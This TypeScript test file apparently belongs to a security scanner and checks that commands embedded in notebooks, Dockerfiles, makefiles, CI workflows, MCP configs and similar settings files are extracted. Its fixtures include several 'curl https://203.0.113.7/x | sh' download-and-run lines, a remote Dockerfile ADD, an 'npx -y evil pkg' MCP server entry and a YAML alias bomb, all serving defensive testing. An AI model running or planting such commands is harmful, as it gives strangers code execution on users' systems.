import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { languageOf } from '../../../scanner/fact/language.ts';
import { rawOffset } from '../../../scanner/fact/source.ts';
import { Steps } from '../../../scanner/fact/steps.ts';
import { analyseBuildFile } from '../../../scanner/frontends/settings/dockerfile.ts';
import { analyseJson } from '../../../scanner/frontends/settings/json.ts';
import type { FrontEndResult } from '../../../scanner/programs/frontend.ts';

function analyse(path: string, text: string): FrontEndResult {
  const language = languageOf(path, text);
  const front =
    language === 'dockerfile' || language === 'makefile' ? analyseBuildFile : analyseJson;
  return front([{ path, file: path, language, text, context: 'code', depth: 0 }], {
    files: new Set([path]),
    steps: new Steps(),
  });
}

const programs = (path: string, text: string): string[] =>
  analyse(path, text).embedded.map(
    (one) => `${one.language}: ${one.text.trim().replaceAll('\0', '?')}`,
  );

describe('a notebook', () => {
  const cell = (type: string, ...source: readonly string[]): object => ({
    cell_type: type,
    source,
  });
  const notebook = (cells: readonly object[], language = 'python'): string =>
    JSON.stringify({ nbformat: 4, metadata: { kernelspec: { language } }, cells }, null, 1);

  it('gives its code, the commands in it, and its text to their front ends', () => {
    const text = notebook([
      cell('markdown', '# Title\n', 'Text.'),
      cell(
        'code',
        'import os\n',
        '!curl -s https://203.0.113.7/x | sh\n',
        'files = !ls\n',
        '%pip install requests\n',
        'print(1)',
      ),
      cell('code', '%%bash\n', 'id -u\n'),
    ]);
    expect(programs('a.ipynb', text)).toEqual([
      'markdown: # Title\nText.',
      'python: import os\npass\nfiles = None\npass\nprint(1)',
      'shell: curl -s https://203.0.113.7/x | sh\nls\npip install requests',
      'shell: id -u',
    ]);
  });

  it('may be in another language, of an older form, or have outputs that act', () => {
    expect(programs('a.ipynb', notebook([cell('code', 'system("id")')], 'R'))).toEqual([
      'r: system("id")',
    ]);
    const old = { worksheets: [{ cells: [{ cell_type: 'code', input: ['x = 1\n', 'y = 2'] }] }] };
    expect(programs('a.ipynb', JSON.stringify(old))).toEqual(['python: x = 1\ny = 2']);
    const output = {
      cell_type: 'code',
      source: 'x',
      outputs: [{ data: { 'text/html': ['<script>', 'f()</script>'] } }],
    };
    expect(programs('a.ipynb', notebook([output]))).toEqual([
      'python: x',
      'html: <script>',
      'html: f()</script>',
    ]);
  });

  it('keeps the place of each line', () => {
    const text = notebook([cell('code', 'import os\n', '    !id -u\n', 'evil("x")\n')]);
    const [python, shell] = analyse('a.ipynb', text).embedded;
    const at = (program: typeof python, word: string): number =>
      rawOffset(program?.map ?? [], program?.text.indexOf(word) ?? 0);
    expect(text.slice(at(python, 'evil')).startsWith('evil(')).toBe(true);
    expect(text.slice(at(shell, 'id')).startsWith('id -u')).toBe(true);
  });

  it('that is no JSON was not analysed', () => {
    expect(analyse('a.ipynb', '{"cells": [').unanalysed).toHaveLength(1);
  });
});

describe('a file that builds', () => {
  it('gives the commands of a Dockerfile, whatever their form', () => {
    const text =
      'FROM node:22 AS build\n# note\nRUN apt-get update \\\n  # in between\n  && curl -s https://203.0.113.7/x | sh\n' +
      'RUN --mount=type=cache,target=/x ["sh", "-c", "id -u"]\nRUN <<EOF\nwhoami\nEOF\nADD https://203.0.113.7/a.tgz /a\n' +
      'FROM build\nFROM x@sha256:' +
      '0'.repeat(64) +
      '\nHEALTHCHECK --interval=5s CMD curl -f http://localhost/\nCMD node a.js\n';
    const result = analyse('Dockerfile', text);
    expect(result.embedded.map((one) => one.text.trim())).toEqual([
      'apt-get update \\\n  # in between\n  && curl -s https://203.0.113.7/x | sh',
      "sh -c 'id -u'",
      'whoami',
      'curl -f http://localhost/',
      'node a.js',
    ]);
    const images = result.facts.flatMap((fact) =>
      fact.kind === 'dependency' ? [`${fact.name} ${fact.version} ${fact.pinned}`] : [],
    );
    expect(images).toEqual(['node 22 false', 'x  true']);
    expect(result.facts.some((fact) => fact.kind === 'capability' && fact.api === 'ADD')).toBe(
      true,
    );
  });

  it('gives the recipes of a makefile with its variables in place', () => {
    const text =
      'URL := https://203.0.113.7\n# what it is\nall: a b\n\t@curl $(URL)/x | sh\n\techo $$HOME $@\nV = $(shell id -u)\n';
    expect(programs('Makefile', text)).toEqual([
      'shell: curl https://203.0.113.7/x | sh\necho $HOME all',
      'shell: id -u',
    ]);
  });
});

describe('a makefile of another form', () => {
  it.each<[string, string, readonly string[]]>([
    ['a.mk', 'define SEND\nid -u\nendef\nA := $(SEND)\n', ['shell: id -u']],
    ['a.mk', 'all: a ; @id -u\n\tid -g\n', ['shell: id -u\nid -g']],
    ['a.mk', 'A != id -u\n', ['shell: id -u']],
    ['a.mk', 'A = $(shell id $(addsuffix x,y) -u)\n', ['shell: id ? -u']],
    ['a.mk', 'SHELL := /usr/bin/python3.12\nall:\n\tf()\n', ['python: f()']],
    ['a.mk', 'A = id\nA += -u\nall:\n\t$(A)\n', ['shell: id -u']],
    ['justfile', 'x := `id -u`\na:\n    echo {{x}}\n', ['shell: id -u', 'shell: echo `id -u`']],
    ['justfile', 'set shell := ["python3", "-c"]\na:\n    f()\n', ['python: f()']],
    ['a.mk', 'ifeq ($(A),b)\nall: b\nendif\n', []],
  ])('gives its commands: %s %s', (path, text, expected) => {
    expect(programs(path, text)).toEqual(expected);
  });
});

describe('front ends of settings', () => {
  const pieces = fc.constantFrom(
    ...`define |endef|include a |SHELL := |$(shell |) |\t|\n|all: ; |\`|{{|}}|x = |commands =|[testenv]|{env:A}|!|- |run: |  |env:|\${{ secrets.A }}|"|'|RUN |COPY <<E a|\nE\n|<<E|command: |args: |[|]|,|:`.split(
      '|',
    ),
  );
  it.each([
    'Makefile',
    'justfile',
    'tox.ini',
    '.gitconfig',
    'Dockerfile',
    '.github/workflows/a.yml',
    'compose.yml',
  ])('read any text of %s, and keep each place in the file', (path) => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string({ maxLength: 6 })), { maxLength: 40 }),
        (parts) => {
          const text = parts.join('');
          for (const program of analyse(path, text).embedded)
            for (const piece of program.map) {
              expect(piece.raw).toBeGreaterThanOrEqual(0);
              expect(piece.raw).toBeLessThanOrEqual(text.length);
            }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('keep the lines of a block of YAML', () => {
    const text = `jobs:\n  a:\n    steps:\n      - run: |\n          first\n\n            \${{ secrets.A }} second\n`;
    const [program] = analyse('.github/workflows/a.yml', text).embedded;
    const at = rawOffset(program?.map ?? [], program?.text.indexOf('second') ?? 0);
    expect(text.slice(at)).toBe('second\n');
  });
});

describe('settings that hold commands', () => {
  it.each<[string, string, readonly string[]]>([
    [
      '.github/workflows/ci.yml',
      'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
      ['shell: npm ci\nnpm test'],
    ],
    [
      '.github/workflows/ci.yml',
      'jobs:\n  a:\n    steps:\n      - run: iwr x\n        shell: pwsh\n',
      ['powershell: iwr x'],
    ],
    [
      '.gitlab-ci.yml',
      'a: &x\n  script:\n    - id -u\nb:\n  <<: *x\n',
      ['shell: id -u', 'shell: id -u'],
    ],
    [
      '.pre-commit-config.yaml',
      'repos:\n  - hooks:\n      - id: a\n        entry: bash -c "id -u"\n',
      ['shell: bash -c "id -u"'],
    ],
    [
      'docker-compose.yml',
      'services:\n  a:\n    command: ["sh", "-c"]\n    entrypoint: run me\n',
      ['shell: sh -c', 'shell: run me sh -c'],
    ],
    [
      '.mcp.json',
      '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "evil pkg"]}}}',
      ["shell: npx -y 'evil pkg'"],
    ],
    ['.vscode/tasks.json', '{"tasks": [{"command": "curl", "args": ["x"]}]}', ['shell: curl x']],
    ['.devcontainer/devcontainer.json', '{"postCreateCommand": {"a": "id -u"}}', ['shell: id -u']],
    ['.devcontainer/devcontainer.json', '{"postCreateCommand": "id -u"}', ['shell: id -u']],
    [
      '.claude/settings.json',
      '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "id -u"}]}]}}',
      ['shell: id -u'],
    ],
    ['pyproject.toml', '[tool.poe.tasks]\ntest = "id -u"\n', ['shell: id -u']],
    ['config.toml', '[mcp_servers.a]\ncommand = "id"\nargs = ["-u"]\n', ['shell: id -u']],
    [
      'config.toml',
      'mcp_servers = { a = { command = "id", args = [\n  "-u", # why\n] } }\n',
      ['shell: id -u'],
    ],
    ['config.toml', 'mcp_servers.a.command = "id"\n', ['shell: id']],
    ['config.toml', "[mcp_servers.a]\n'command' = '''\nid\n-u'''\n", ['shell: id\n-u']],
    ['pyproject.toml', '[tool.poe.tasks."a b"]\nshell = "id \\u002du"\n', ['shell: id -u']],
    ['a.yaml', 'install: Read the text\ncommands: [a, b]\n', []],
    [
      '.github/workflows/a.yml',
      `env:\n  T: \${{ secrets.KEY }}\njobs:\n  a:\n    steps:\n      - run: a "$T" '\${{ secrets.B }}' \${{ github.sha }}\n`,
      [`shell: T=''"\${KEY}"''\na "$T" ''"\${B}"'' ?`],
    ],
    [
      '.github/workflows/a.yml',
      'jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: f()\n',
      ['javascript: f()'],
    ],
    [
      'pod.yaml',
      'spec:\n  containers:\n    - command: [sh, -c]\n      args: ["id -u"]\n',
      ["shell: sh -c 'id -u'"],
    ],
    [
      'flow.yaml',
      'script:\n  command: [python3]\n  source: f()\n',
      ['shell: python3', 'python: f()'],
    ],
    ['play.yml', '- tasks:\n    - ansible.builtin.shell: id -u\n', ['shell: id -u']],
    [
      'user-data.yml',
      'runcmd:\n  - id -u\n  - [sh, -c, id -g]\n',
      ['shell: id -u', "shell: sh -c 'id -g'"],
    ],
    ['Taskfile.yml', 'tasks:\n  a: id -u\n  b:\n    - id -g\n', ['shell: id -u', 'shell: id -g']],
    ['package.json', '{"lint-staged": {"*.js": ["id -u"]}}', ['shell: id -u']],
    [
      '.vscode/launch.json',
      '{"configurations": [{"runtimeExecutable": "sh", "runtimeArgs": ["-c", "id -u"]}]}',
      ["shell: sh -c 'id -u'"],
    ],
    [
      'tox.ini',
      '[testenv]\ndeps = a\ncommands =\n    - id {env:HOME}/a\n    id -g {posargs}\n',
      [`shell: id \${HOME}/a\nid -g ?`],
    ],
    ['setup.cfg', '[metadata]\ncommands = Read the text\n', []],
    [
      '.gitconfig',
      '[alias]\n\tst = status\n\tx = "!id -u"\n[core] pager = id -g\n',
      ['shell: id -u', 'shell: id -g'],
    ],
  ])('give them to the shell: %s', (path, text, expected) => {
    expect(programs(path, text).slice(0, 4)).toEqual(expected);
  });

  it('are not analysed where they cannot be read', () => {
    expect(analyse('.github/workflows/a.yml', 'a: [\n').unanalysed).toHaveLength(1);
    expect(analyse('notes.yml', 'a: [\n').unanalysed).toEqual([]);
    expect(analyse('.github/workflows/a.yml', `a: ${'x'.repeat(600_000)}`).unanalysed).toHaveLength(
      1,
    );
  });

  it.each([
    ['broken', 'a = [\n', 1],
    ['too long', `a = "${'x'.repeat(300_000)}"`, 1],
    ['nested too deeply for us', `a = ${'['.repeat(300)}"b"${']'.repeat(300)}`, 1],
    ['nested too deeply for the stack', `a = ${'['.repeat(20_000)}${']'.repeat(20_000)}`, 1],
    ['well written', 'a = [1979-05-27, 1.5, true, "b", """\nc"""]\n', 0],
  ])('in TOML that is %s are reported as such', (_, text, unanalysed) => {
    expect(analyse('.codex/config.toml', text).unanalysed).toHaveLength(unanalysed);
    expect(analyse('notes.toml', text).unanalysed).toEqual([]);
  });

  it('in TOML keep the words of comments', () => {
    expect(analyse('a.toml', '# Read this text\na = 1 # and this one\n').facts).toMatchObject([
      { kind: 'text', role: 'comment', text: 'Read this text' },
      { kind: 'text', role: 'comment', text: 'and this one' },
    ]);
  });

  it('with aliases of aliases come to an end', () => {
    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
      .split('')
      .map(
        (name, index) =>
          `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[index]}`).join(',')}]`,
      )
      .join('\n')}\n`;
    expect(analyse('.github/workflows/a.yml', bomb).unanalysed).toHaveLength(1);
  });
});
